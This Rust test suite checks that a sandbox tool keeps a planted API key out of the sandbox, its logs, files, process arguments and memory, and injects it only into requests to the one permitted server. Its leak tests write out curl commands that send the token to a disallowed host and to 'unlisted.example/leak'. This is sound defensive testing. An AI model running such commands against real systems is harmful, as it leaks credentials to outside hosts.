//! A planted key is searched everywhere: only the server it is for ever sees it.

use crate::support::{LONG, Sandbox, alias, has_tools, http, is_root, show, world};
use anyhow::{Context as _, ensure};
use handler_testkit::{HttpOrigin, World};
use handler_types::egress::EgressDecision;
use std::collections::BTreeSet;
use std::io::{Read as _, Seek as _, SeekFrom};
use std::path::Path;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};

/// A key of 48 characters, and what it looks like in Basic credentials, whichever way it falls.
fn plant() -> (String, Vec<String>) {
    let value = format!("sk-planted-{}", &handler_base::random::hex(19)[..37]);
    assert_eq!(value.len(), 48);
    let encoded = |text: &str| base64(text.as_bytes());
    // Base64 of the value at each of the three places of a group, without the ends that neighbours reach into.
    let forms = ["", "u", "uu"].map(|before| {
        let all = encoded(&format!("{before}{value}"));
        all[4..all.len() - 4].to_owned()
    });
    let mut wanted = vec![value.clone()];
    wanted.extend(forms);
    (value, wanted)
}

fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let digit = |number: u32| char::from(DIGITS[(number & 63) as usize]);
    let mut text = String::new();
    for group in bytes.chunks(3) {
        let mut three = [0; 3];
        three[..group.len()].copy_from_slice(group);
        let bits = u32::from_be_bytes([0, three[0], three[1], three[2]]);
        for place in 0..4 {
            let is_filler = place > group.len();
            text.push(if is_filler { '=' } else { digit(bits >> (18 - 6 * place)) });
        }
    }
    text
}

fn holds(bytes: &[u8], wanted: &[String]) -> bool {
    wanted.iter().any(|text| bytes.windows(text.len()).any(|window| window == text.as_bytes()))
}

/// All files below a folder that hold one of the texts, unread ones as errors.
fn search_files(folder: &Path, wanted: &[String], found: &mut Vec<String>, read: &mut usize) -> anyhow::Result<()> {
    for entry in std::fs::read_dir(folder)? {
        let path = entry?.path();
        let kind = path.symlink_metadata()?;
        if kind.is_dir() {
            search_files(&path, wanted, found, read)?;
        } else if kind.is_file() {
            *read += 1;
            if holds(&std::fs::read(&path)?, wanted) {
                found.push(path.display().to_string());
            }
        }
        if holds(path.as_os_str().as_encoded_bytes(), wanted) {
            found.push(path.display().to_string());
        }
    }
    Ok(())
}

/// Looks at the arguments of every process of the machine again and again, until told to stop.
struct ArgvWatch {
    stop: Arc<AtomicBool>,
    looks: Arc<Mutex<(usize, BTreeSet<String>)>>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl ArgvWatch {
    fn start(wanted: Vec<String>) -> Self {
        let stop = Arc::new(AtomicBool::new(false));
        let looks = Arc::new(Mutex::new((0, BTreeSet::new())));
        let (until, into) = (stop.clone(), looks.clone());
        let thread = std::thread::spawn(move || {
            while !until.load(Ordering::SeqCst) {
                let entries = std::fs::read_dir("/proc").into_iter().flatten().flatten();
                for entry in entries {
                    let argv = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
                    if holds(&argv, &wanted) {
                        into.lock().expect("no panic").1.insert(show(&argv).replace('\0', " "));
                    }
                }
                into.lock().expect("no panic").0 += 1;
            }
        });
        Self { stop, looks, thread: Some(thread) }
    }

    /// How often it looked, and what it saw.
    fn finish(mut self) -> (usize, BTreeSet<String>) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(thread) = self.thread.take() {
            thread.join().expect("no panic");
        }
        self.looks.lock().expect("no panic").clone()
    }
}

/// Every GET of the API that can be filled in, answered.
async fn all_answers(world: &World, sandbox: &str, process: u32) -> anyhow::Result<Vec<(String, String)>> {
    let port = world.port()?;
    let token = format!("Authorization: Bearer {}", world.token()?);
    let host = format!("Host: 127.0.0.1:{port}");
    let described = http(port, &["GET /openapi.json HTTP/1.1", &host], "").await?;
    let described: serde_json::Value = serde_json::from_str(&described.body)?;
    let paths = described["paths"].as_object().context("paths")?;
    let mut answers = Vec::new();
    for (path, methods) in paths {
        let is_stream = path.ends_with("/attach") || path.ends_with("/acp") || path == "/v1/events";
        if methods.get("get").is_none() || is_stream {
            continue;
        }
        let filled = path
            .replace("{process}", &process.to_string())
            .replace("{id}", sandbox)
            .replace("{name}", "planted")
            .replace("{path}", "tokens/planted");
        let query = if path.ends_with("/dir") || path.contains("/files") { "?path=/home/agent" } else { "" };
        let line = format!("GET {filled}{query} HTTP/1.1");
        let answer = http(port, &[&line, &host, &token], "").await?;
        answers.push((filled, format!("{} {}", answer.head, answer.body)));
    }
    Ok(answers)
}

/// Readable memory of a process, region by region.
fn memory_holds(pid: i32, wanted: &[String]) -> anyhow::Result<(bool, u64)> {
    let maps = std::fs::read_to_string(format!("/proc/{pid}/maps"))?;
    let mut memory = std::fs::File::open(format!("/proc/{pid}/mem"))?;
    let (mut found, mut total) = (false, 0);
    for line in maps.lines() {
        let (range, rest) = line.split_once(' ').context("a region")?;
        let (from, to) = range.split_once('-').context("a range")?;
        let (from, to) = (u64::from_str_radix(from, 16)?, u64::from_str_radix(to, 16)?);
        // What is mapped from a file and cannot be written holds no secret.
        if !rest.starts_with("rw") || to - from > 256 << 20 {
            continue;
        }
        let mut region = Vec::new();
        memory.seek(SeekFrom::Start(from))?;
        if (&mut memory).take(to - from).read_to_end(&mut region).is_ok() {
            total += region.len() as u64;
            found |= holds(&region, wanted);
        }
    }
    Ok((found, total))
}

async fn keyed(world: &World, value: &str, at: &HttpOrigin, other: &HttpOrigin) -> anyhow::Result<Sandbox> {
    let input = format!("{value}\n");
    let set = world.cli_with_input(&["secret", "set", "tokens/planted"], input.as_bytes()).await?;
    ensure!(set.status.success(), "{set:?}");
    let grant = format!("TOKEN=tokens/planted@{}", alias(at.port()));
    let allow = alias(other.port());
    world
        .cli_ok(&["sandbox", "up", "--no-folder", "--name", "keyed", "--secret", &grant, "--allow", &allow])
        .await?;
    Ok(Sandbox { client: world.client(), id: "keyed".into() })
}

#[tokio::test]
async fn only_the_server_a_secret_is_for_receives_it_and_the_sandbox_never() -> anyhow::Result<()> {
    if !has_tools("only_the_server_a_secret_is_for_receives_it", &["curl"]) {
        return Ok(());
    }
    let world = world().await?;
    let (right, wrong) = (HttpOrigin::start().await?, HttpOrigin::start().await?);
    let (value, wanted) = plant();
    let sandbox = keyed(&world, &value, &right, &wrong).await?;
    let phantom = sandbox.out("printf %s \"$TOKEN\"").await?;
    assert_eq!(phantom.len(), value.len());
    assert_ne!(phantom, value);
    let base = format!("http://{}", alias(right.port()));

    sandbox.out(&format!("curl -sSf -m 20 -H \"Authorization: Bearer $TOKEN\" {base}/header")).await?;
    let request = right.wait_for(LONG, |request| request.path == "/header").await?;
    assert_eq!(request.headers["authorization"].to_str()?, format!("Bearer {value}"));

    sandbox.out(&format!("curl -sSf -m 20 -u \"me:$TOKEN\" {base}/basic")).await?;
    let request = right.wait_for(LONG, |request| request.path == "/basic").await?;
    let basic = format!("Basic {}", base64(format!("me:{value}").as_bytes()));
    assert_eq!(request.headers["authorization"].to_str()?, basic);

    let echoed = sandbox.out(&format!("curl -sSf -m 20 -d \"key=$TOKEN\" {base}/echo")).await?;
    let request = right.wait_for(LONG, |request| request.path == "/echo").await?;
    assert_eq!(show(&request.body), format!("key={value}"), "the body arrives with the value");
    assert_eq!(echoed, format!("key={phantom}"), "the echo comes back with the stand-in");
    assert!(!right.requests().iter().any(|request| request.mentions(&phantom)));

    for url in [alias(wrong.port()), "unlisted.example".into()] {
        for how in ["-H \"X-Key: $TOKEN\"", "-u \"me:$TOKEN\"", "-d \"$TOKEN\"", "-G -d \"q=$TOKEN\""] {
            let script = format!("curl -sS -m 20 {how} -w '\\n%{{http_code}}' http://{url}/leak");
            let answer = sandbox.out(&script).await?;
            assert!(answer.ends_with("403"), "{script}: {answer}");
        }
    }
    assert_eq!(wrong.requests().len(), 0, "{:?}", wrong.requests());
    let events = sandbox.client.sandbox_egress("keyed").await?;
    let of = |decision| events.iter().filter(|event| event.decision == decision).collect::<Vec<_>>();
    assert_eq!(of(EgressDecision::Leak).len(), 4, "{events:?}");
    let secret = of(EgressDecision::Leak)[0].secret.as_deref();
    assert_eq!(secret, Some("tokens/planted"));
    assert!(of(EgressDecision::Injected).len() >= 3, "{events:?}");
    assert!(!holds(serde_json::to_string(&events)?.as_bytes(), &wanted));
    Ok(())
}

#[tokio::test]
async fn a_secret_is_in_no_argument_environment_file_log_answer_or_memory_of_the_sandbox() -> anyhow::Result<()> {
    if !has_tools("a_secret_is_in_no_argument_environment_file_log", &["curl", "python3"]) {
        return Ok(());
    }
    let mut world = world().await?;
    let (right, wrong) = (HttpOrigin::start().await?, HttpOrigin::start().await?);
    let (value, wanted) = plant();
    let watch = ArgvWatch::start(wanted.clone());
    let sandbox = keyed(&world, &value, &right, &wrong).await?;
    let added = world
        .cli_with_input(&["provider", "add", "planted", "--from", "anthropic", "--key-file", "-"], value.as_bytes())
        .await?;
    assert!(added.status.success(), "{added:?}");
    // A program inside that sent it, got it echoed, and goes on with all it has in memory.
    let program = format!(
        "import os,time,urllib.request as r\n\
         q=r.Request('http://{}/echo',data=os.environ['TOKEN'].encode(),headers={{'X-Key':os.environ['TOKEN']}})\n\
         kept=r.urlopen(q).read(); print('kept',len(kept),flush=True); time.sleep(600)",
        alias(right.port())
    );
    let process = sandbox.start(&format!("exec python3 -c \"{program}\"")).await?;
    sandbox.attach(process, None).await?.until("kept 48\n").await?;
    right.wait_for(LONG, |request| request.mentions(&value)).await?;
    sandbox.sh(&format!("curl -sS -d \"$TOKEN\" http://{}/", alias(wrong.port()))).await?;

    for (path, answer) in all_answers(&world, "keyed", process).await? {
        assert!(!holds(answer.as_bytes(), &wanted), "{path} answers with it");
    }
    for command in [["secret", "list"], ["provider", "list"], ["sandbox", "list"], ["sandbox", "egress"]] {
        let mut args = vec!["--json"];
        args.extend(command);
        if command[1] == "egress" {
            args.push("keyed");
        }
        assert!(!holds(world.cli_ok(&args).await?.as_bytes(), &wanted), "{command:?}");
    }
    let mut looked = 0;
    for member in world.processes() {
        let environ = std::fs::read(format!("/proc/{}/environ", member.pid)).unwrap_or_default();
        assert!(!holds(&environ, &wanted), "environment of {member:?}");
        let is_inside = member.argv.iter().any(|arg| arg.contains("time.sleep(600)"));
        if is_inside && is_root() {
            let (found, total) = memory_holds(member.pid, &wanted)?;
            assert!(!found, "memory of {member:?}");
            assert!(total > 1 << 20, "only {total} bytes were looked at");
            looked += 1;
        }
    }
    assert!(looked == 1 || !is_root(), "{looked} programs inside were looked at");
    let (looks, seen) = watch.finish();
    assert!(looks > 10 && seen.is_empty(), "{looks} looks: {seen:?}");
    // Also what is only written at the end, or by the next daemon.
    world.restart().await?;
    sandbox.out(&format!("curl -sSf -H \"X-Key: $TOKEN\" http://{}/again", alias(right.port()))).await?;
    right.wait_for(LONG, |request| request.path == "/again" && request.mentions(&value)).await?;
    world.stop_daemon().await?;
    let (mut found, mut read) = (Vec::new(), 0);
    search_files(world.scratch().path(), &wanted, &mut found, &mut read)?;
    assert_eq!(found, Vec::<String>::new());
    assert!(read > 5, "only {read} files were looked at");
    let sealed = world.scratch().folder("data").join("secrets.json.sealed");
    assert!(std::fs::metadata(sealed)?.len() > 48, "it is kept, sealed");
    Ok(())
}

#[tokio::test]
async fn a_secret_that_is_missing_or_cannot_be_hidden_is_refused_before_anything_is_made() -> anyhow::Result<()> {
    let world = world().await?;
    let up = |grant: &'static str| ["sandbox", "up", "--no-folder", "--secret", grant];
    let missing = world.cli(&up("TOKEN=tokens/none@example.com:443")).await?;
    assert_eq!(missing.status.code(), Some(3), "{missing:?}");
    let told = show(&missing.stderr);
    assert!(told.contains("tokens/none") && told.contains("handler secret set tokens/none"), "{told}");
    let short = world.cli_with_input(&["secret", "set", "tokens/short"], b"abc").await?;
    assert!(short.status.success(), "{short:?}");
    let refused = world.cli(&up("TOKEN=tokens/short@example.com:443")).await?;
    assert_eq!(refused.status.code(), Some(3), "{refused:?}");
    assert!(!show(&refused.stderr).contains("abc"));
    // Nothing takes a value as an argument.
    let typed = world.cli(&["secret", "set", "tokens/typed", "value"]).await?;
    assert_eq!(typed.status.code(), Some(2), "{typed:?}");
    assert_eq!(world.client().sandboxes("", 50).await?.items.len(), 0);
    assert!(world.leftovers().is_empty(), "{:?}", world.leftovers());
    Ok(())
}
